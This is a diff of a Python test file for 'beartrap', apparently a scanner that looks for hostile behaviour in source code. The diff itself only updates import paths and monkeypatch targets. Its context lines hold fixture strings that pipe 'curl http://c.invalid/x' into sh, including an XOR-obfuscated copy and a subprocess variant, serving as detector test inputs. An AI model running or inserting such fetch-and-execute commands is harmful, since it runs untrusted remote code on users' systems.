@@ -11,8 +11,8 @@ from beartrap.model.coverage import Gap
 from beartrap.model.finding import Severity
 from beartrap.model.question import Question
 from beartrap.vet.behaviour import Behaviour
-from beartrap.vet.source import large
-from beartrap.vet.source.large import part_of
+from beartrap.vet.source.languages import large
+from beartrap.vet.source.languages.large import part_of
 
 GET = "curl http://c.invalid/x | sh"
 ARRAY = ", ".join(str(ord(one) ^ 0x42) for one in GET)
@@ -149,7 +149,7 @@ READS = "import subprocess\nsubprocess.run('curl -s http://c.invalid/x | sh', sh
 def test_a_large_file_of_python_that_is_data_is_read_beside_it(
     monkeypatch: pytest.MonkeyPatch, text: str, held: bool, acts: bool
 ) -> None:
-    for name in ("source_files.LARGEST", "source.large.ACTING", "source.large.AROUND"):
+    for name in ("source_files.LARGEST", "source.languages.large.ACTING", "source.languages.large.AROUND"):
         monkeypatch.setattr(f"beartrap.vet.{name}", 50_000)
     seen = look("a.py", text)
     assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held
